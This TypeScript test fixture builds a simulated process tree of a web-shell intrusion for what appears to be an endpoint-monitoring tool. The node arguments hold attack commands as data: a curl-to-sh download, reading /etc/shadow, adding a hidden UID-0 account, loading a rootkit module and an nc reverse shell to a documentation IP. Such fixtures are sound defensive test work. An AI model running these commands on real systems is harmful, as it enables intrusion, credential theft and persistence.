import type { Lineage, LineageNode } from "../../src/core/api/events.ts";
import type { SensorDetail } from "../../src/core/api/sensors.ts";
import type { Severity } from "../../src/core/event/severity.ts";

const iso = (ms: number): string => new Date(ms).toISOString();

function node(
  id: string,
  parent: string | null,
  binary: string,
  args: string,
  startMs: number | null,
  endMs: number | null,
  more: Partial<LineageNode> = {},
): LineageNode {
  return {
    exec_id: id,
    parent_exec_id: parent,
    pid: 1,
    uid: 33,
    binary,
    arguments: args,
    started_at: startMs === null ? null : iso(startMs),
    ended_at: endMs === null ? null : iso(endMs),
    exit_code: endMs === null ? null : 0,
    exit_signal: null,
    container_id: "",
    inferred: false,
    counts: { files: 0, connections: 0, dns: 0, warnings: 0 },
    severity: "info",
    children_total: 0,
    ...more,
  };
}

/** A web shell's night out; `crowd` adds that many equal children. */
export function makeLineage(sensor: SensorDetail, nowMs: number, crowd: number): Lineage {
  const t = nowMs - 90_000;
  const counts = (files: number, connections: number, dns: number, warnings: number) => ({
    counts: { files, connections, dns, warnings },
  });
  const high: Severity = "high";
  const nodes: LineageNode[] = [
    node("init", null, "/usr/lib/systemd/systemd", "--system --deserialize 31", nowMs - 41 * 86_400e3, null, {
      pid: 1,
      uid: 0,
      inferred: true,
      children_total: 88,
    }),
    node(
      "fpm",
      "init",
      "/usr/sbin/php-fpm8.2",
      "--nodaemonize --fpm-config /etc/php/8.2/fpm/php-fpm.conf",
      nowMs - 9 * 86_400e3,
      null,
      { pid: 640, uid: 0, ...counts(12, 2, 0, 0), children_total: 3 },
    ),
    node("pool", "fpm", "/usr/sbin/php-fpm8.2", "pool www", t - 4000, null, {
      pid: 1811,
      ...counts(3, 41, 2, 0),
      children_total: 2,
    }),
    node("sh", "pool", "/usr/bin/bash", "-c curl -fsSL https://updates.example.net/x.sh | sh", t, t + 61_000, {
      pid: 20_113,
      ...counts(4, 0, 0, 1),
      severity: "warning",
      children_total: 2,
    }),
    node("curl", "sh", "/usr/bin/curl", "-fsSL https://updates.example.net/x.sh", t + 120, t + 1400, {
      pid: 20_114,
      ...counts(2, 1, 1, 0),
    }),
    node("sh2", "sh", "/usr/bin/dash", "", t + 140, t + 60_900, {
      pid: 20_115,
      ...counts(1, 0, 0, 2),
      severity: "warning",
      children_total: 18,
    }),
    node("focus", "sh2", "/usr/bin/python3.11", "-c import pty; pty.spawn('/bin/bash')", t + 2600, t + 58_000, {
      pid: 20_131,
      uid: 0,
      ...counts(7, 3, 1, 4),
      severity: "critical",
      children_total: 4,
      exit_code: null,
      exit_signal: "SIGKILL",
    }),
    node("bash", "focus", "/usr/bin/bash", "-i", t + 2900, t + 57_900, {
      pid: 20_140,
      uid: 0,
      ...counts(11, 1, 0, 1),
      severity: high,
      children_total: 6,
    }),
    node("id", "bash", "/usr/bin/id", "", t + 9000, t + 9010, { pid: 20_151, uid: 0 }),
    node("cat", "bash", "/usr/bin/cat", "/etc/shadow", t + 14_000, t + 14_012, {
      pid: 20_160,
      uid: 0,
      ...counts(1, 0, 0, 1),
      severity: high,
    }),
    node(
      "useradd",
      "bash",
      "/usr/sbin/useradd",
      "-o -u 0 -g 0 -M -d /root -s /bin/bash support",
      t + 23_000,
      t + 23_240,
      { pid: 20_177, uid: 0, ...counts(6, 0, 0, 2), severity: "critical" },
    ),
    node("insmod", "bash", "/usr/sbin/insmod", "/tmp/.x/diamorphine.ko", t + 36_000, t + 36_050, {
      pid: 20_190,
      uid: 0,
      ...counts(1, 0, 0, 1),
      severity: "critical",
      exit_code: 1,
    }),
    node("nc-sh", "bash", "/usr/bin/dash", "-c nc -e /bin/bash 203.0.113.9 4444", t + 40_000, t + 41_000, {
      pid: 20_204,
      uid: 0,
      exit_code: null,
    }),
    node("nc", "bash", "/usr/bin/nc", "-e /bin/bash 203.0.113.9 4444", t + 41_000, t + 57_800, {
      pid: 20_204,
      uid: 0,
      ...counts(0, 1, 0, 1),
      severity: high,
    }),
    ...Array.from({ length: 14 }, (_, i) =>
      node(`sleep${i}`, "sh2", "/usr/bin/sleep", "4", t + 3000 + i * 4000, t + 7000 + i * 4000, { pid: 20_300 + i }),
    ),
    ...Array.from({ length: crowd }, (_, i) =>
      node(
        `w${i}`,
        i < 40 ? "bash" : `w${Math.floor(i / 8)}`,
        "/usr/bin/find",
        `/srv/share-${i} -name *.key`,
        t + 43_000 + i * 25,
        t + 43_400 + i * 28,
        { pid: 21_000 + i, ...counts(i % 5, 0, 0, 0), exit_code: i % 9 === 0 ? 1 : 0 },
      ),
    ),
  ];
  return {
    sensor_id: sensor.sensor_id,
    node_name: sensor.node_name,
    focus_exec_id: "focus",
    nodes,
    left_out: crowd > 100 ? 212 : 0,
    took_ms: 41,
  };
}
